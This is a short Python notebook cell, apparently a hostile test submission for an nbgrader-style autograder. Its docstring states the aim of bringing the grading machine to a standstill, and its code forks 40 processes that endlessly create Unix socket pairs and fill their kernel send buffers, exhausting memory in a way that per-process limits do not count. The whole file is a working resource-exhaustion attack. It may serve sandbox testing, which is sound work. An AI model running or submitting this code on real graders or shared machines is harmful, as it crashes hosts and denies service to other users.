"""Fills the buffers of thousands of sockets that it sends to itself and closes: memory that no process holds.

Would bring the grader's machine to a stand past every limit that counts processes' memory.

Plain nbgrader: not run there, since nothing confines it: it would fill the machine's memory.
"""

# %%
import os
import socket

kept = []
for _ in range(40):
    if os.fork() == 0:
        try:
            while True:
                a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
                for end in (a, b):
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(bytes(2**16))
                    except BlockingIOError:
                        pass
                kept.append((a, b))
        except OSError:
            pass
        import time

        time.sleep(100)
import time

time.sleep(100)
